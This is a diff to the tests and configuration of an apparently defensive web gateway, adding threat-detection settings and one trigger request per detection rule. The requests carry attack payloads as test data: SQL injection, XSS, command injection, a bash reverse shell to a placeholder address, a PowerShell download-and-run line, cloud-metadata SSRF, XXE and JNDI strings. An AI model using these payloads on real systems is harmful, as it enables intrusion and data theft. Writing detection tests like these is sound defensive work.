@@ -129,6 +129,20 @@ policies:
           validate_responses: true
           response_exposure: monitor
           max_response_bytes: 1KiB
+    threat_detection:
+      mode: monitor
+      paranoia_level: 3
+      anomaly_threshold: 10
+      headers: [user-agent, referer, cookie]
+      skip_headers: [host]
+      inspect_body: false
+      max_value_bytes: 16KiB
+      disabled_categories: [ssrf]
+      exceptions:
+        - rules: [sqli.tautology, "xss.*"]
+          locations: [query.q, "body:/notes/*"]
+          routes: [api]
+          operations: [searchUsers]
 routes:
   - name: api
     match:
@@ -170,6 +184,9 @@ policies:
       spec: ../examples/quickstart/openapi.yaml
       operations:
         getUser: {}
+    threat_detection:
+      exceptions:
+        - rules: [sqli.union]
 routes:
   - name: api
     match: {}
@@ -738,6 +755,11 @@ fn rule_ids_in_source() -> BTreeMap<String, String> {
             ids.entry(id).or_insert_with(|| file.display().to_string());
         }
     }
+    // The detection engines declare their rules in one catalogue.
+    for rule in portcullis_detect::rules::ALL {
+        ids.entry(rule.id.to_owned())
+            .or_insert_with(|| "crates/detect/src/rules.rs".to_owned());
+    }
     ids
 }
 
@@ -888,6 +910,10 @@ policies:
       unknown_query: strip
       response_exposure: strip
       max_response_bytes: 64
+  detect:
+    threat_detection:
+      paranoia_level: 4
+      max_value_bytes: 1KiB
 routes:
   - name: oa
     match:
@@ -915,6 +941,11 @@ routes:
       path_prefix: /limits
     upstream: demo
     policy: limits
+  - name: detect
+    match:
+      path_prefix: /detect
+    upstream: demo
+    policy: detect
 "#;
 
 fn trigger_cases() -> Vec<(&'static str, String, &'static str)> {
@@ -922,7 +953,7 @@ fn trigger_cases() -> Vec<(&'static str, String, &'static str)> {
         format!("GET {target} HTTP/1.1\r\nHost: a\r\n{extra_headers}\r\n")
     };
     let many = |n: usize| (0..n).map(|i| format!("X-H{i}: v\r\n")).collect::<String>();
-    vec![
+    let mut cases = vec![
         (
             "protocol.smuggling",
             "POST /deny HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_owned(),
@@ -968,7 +999,9 @@ fn trigger_cases() -> Vec<(&'static str, String, &'static str)> {
         ("openapi.body.undeclared", post("/oa/items", "application/json", r#"{"name":"a","admin":true}"#), "127.0.0.1"),
         ("openapi.body.limit", post("/oa/items", "application/json", r#"{"name":"aaaaaaaaaaaa"}"#), "127.0.0.1"),
         ("openapi.body.too_large", post("/oa/items", "application/octet-stream", "123456789"), "127.0.0.1"),
-    ]
+    ];
+    cases.extend(detection_trigger_cases());
+    cases
 }
 
 fn post(target: &str, content_type: &str, body: &str) -> String {
@@ -1024,6 +1057,157 @@ fn response_trigger_cases() -> Vec<(&'static str, String, String)> {
             ),
         ),
     ]
+}
+
+/// One request per detection rule, to the paranoia-4 `detect` route: most as
+/// a JSON string value, names as query names or JSON keys, some in headers.
+fn detection_trigger_cases() -> Vec<(&'static str, String, &'static str)> {
+    let json = |value: &str| {
+        let body = serde_json::json!({ "v": value }).to_string();
+        format!(
+            "POST /detect HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        )
+    };
+    let json_key = |key: &str| {
+        let body = serde_json::json!({ key: 1 }).to_string();
+        format!(
+            "POST /detect HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        )
+    };
+    let query_name = |name: &str| format!("GET /detect?{name}=1 HTTP/1.1\r\nHost: a\r\n\r\n");
+    let header = |name: &str, value: &str| {
+        format!("GET /detect HTTP/1.1\r\nHost: a\r\n{name}: {value}\r\n\r\n")
+    };
+    let cases: Vec<(&'static str, String)> = vec![
+        ("sqli.union", json("1 union select 1,2")),
+        ("sqli.tautology", json("' or '1'='1")),
+        ("sqli.boolean", json("1' and 1=1--")),
+        ("sqli.comment_breakout", json("admin'--")),
+        ("sqli.stacked_query", json("1; drop table users")),
+        ("sqli.time_based", json("1 and sleep(5)")),
+        (
+            "sqli.error_based",
+            json("1 and extractvalue(1,concat(0x7e,version()))"),
+        ),
+        ("sqli.function", json("1 and @@version")),
+        (
+            "sqli.schema_probe",
+            json("1 union select table_name from information_schema.tables"),
+        ),
+        ("sqli.obfuscated", json("1 UN/**/ION SEL/**/ECT 1")),
+        ("sqli.order_by", json("1 order by 5--")),
+        ("sqli.statement", json("select name, email from users")),
+        ("sqli.operator_chain", json("'-'")),
+        ("xss.script_tag", json("<script>alert(1)</script>")),
+        ("xss.event_handler", json("<img src=x onerror=alert(1)>")),
+        ("xss.js_url", json("javascript:alert(1)")),
+        ("xss.dangerous_tag", json("<iframe src=//example.com>")),
+        (
+            "xss.css_expression",
+            json("<div style=\"x:expression(alert(1))\">"),
+        ),
+        ("xss.js_injection", json("\";alert(1)//")),
+        (
+            "xss.template_gadget",
+            json("{{constructor.constructor('alert(1)')()}}"),
+        ),
+        ("xss.html_tag", json("<b>bold</b>")),
+        ("rce.command_chain", json(";cat /etc/passwd")),
+        ("rce.substitution", json("$(whoami)")),
+        ("rce.evasion", json("cat${IFS}/etc/passwd")),
+        ("rce.unix_command", json("uname -a")),
+        ("rce.windows_command", json("& ipconfig /all")),
+        (
+            "rce.powershell",
+            json("powershell IEX(New-Object Net.WebClient).DownloadString('http://x')"),
+        ),
+        (
+            "rce.reverse_shell",
+            json("bash -i >& /dev/tcp/192.0.2.1/8080 0>&1"),
+        ),
+        ("rce.shell_path", json(";/bin/sh -c id")),
+        ("rce.nodejs", json("require('child_process').exec('id')")),
+        ("rce.bare_command", json("whoami")),
+        ("path.traversal", json("../../etc/passwd")),
+        ("path.sensitive_file", json("/etc/passwd")),
+        ("path.wrapper", json("php://filter/resource=index.php")),
+        (
+            "path.hidden_file",
+            "GET /detect/.git/config HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
+        ),
+        ("rfi.url", json("http://192.0.2.1/shell.txt?")),
+        ("rfi.off_site_url", json("https://example.com/page")),
+        (
+            "ssrf.metadata",
+            json("http://169.254.169.254/latest/meta-data/"),
+        ),
+        ("ssrf.loopback", json("http://localhost/admin")),
+        ("ssrf.private_address", json("http://10.0.0.5/")),
+        ("ssrf.obfuscated_ip", json("http://2130706433/")),
+        ("ssrf.scheme", json("gopher://example.com:70/_x")),
+        ("nosql.operator", json_key("$ne")),
+        ("nosql.js_injection", json("';return true;var x='")),
+        ("ldap.filter_injection", json("*)(uid=*))(|(uid=*")),
+        ("ssti.expression", json("{{self.__class__.__mro__}}")),
+        ("ssti.probe", json("{{7*7}}")),
+        ("ssi.directive", json("<!--#exec cmd=\"id\" -->")),
+        (
+            "xxe.external_entity",
+            json("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"),
+        ),
+        (
+            "xxe.entity_declaration",
+            json("<!DOCTYPE x [<!ENTITY e \"a\">]>"),
+        ),
+        (
+            "xxe.xinclude",
+            json("<xi:include href=\"file:///etc/passwd\"/>"),
+        ),
+        ("crlf.header_injection", json("x\r\nSet-Cookie: a=b")),
+        ("crlf.mail_header", json("x\nBcc: victim@example.com")),
+        ("crlf.http_splitting", json("x\r\nHTTP/1.1 200 OK")),
+        ("proto.pollution", json_key("__proto__")),
+        ("jndi.lookup", json("${jndi:ldap://example.com/a}")),
+        ("deser.java", json("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")),
+        ("deser.php", json("O:8:\"stdClass\":0:{}")),
+        ("deser.dotnet", json("AAEAAAD/////AQAAAAAAAAAMAgAAAA")),
+        ("deser.python", json("cos\nsystem\n(S'id'\ntR.")),
+        (
+            "shellshock.function_definition",
+            header("User-Agent", "() { :; }; echo x"),
+        ),
+        ("php.open_tag", json("<?php echo 1; ?>")),
+        ("php.function_call", json("phpinfo()")),
+        ("php.variable", json("$_GET['x']")),
+        ("php.script_upload", header("X-Filename", "shell.php")),
+        ("java.gadget_class", json("java.lang.Runtime")),
+        (
+            "java.ognl",
+            json("%{#_memberAccess['allowStaticMethodAccess']=true}"),
+        ),
+        (
+            "java.class_loader",
+            query_name("class.module.classLoader.resources"),
+        ),
+        ("java.el_expression", json("${pageContext.request}")),
+        ("scanner.user_agent", header("User-Agent", "sqlmap/1.7")),
+        ("session.fixation", json("document.cookie=\"sid=1\"")),
+        ("session.id_in_parameter", query_name("jsessionid")),
+        (
+            "anomaly.control_character",
+            "GET /detect?v=%01abc HTTP/1.1\r\nHost: a\r\n\r\n".to_owned(),
+        ),
+        (
+            "anomaly.value_truncated",
+            header("X-Long", &"a".repeat(1500)),
+        ),
+    ];
+    cases
+        .into_iter()
+        .map(|(rule, req)| (rule, req, "127.0.0.1"))
+        .collect()
 }
 
 /// Rules that only the live gateway produces, because they depend on time or
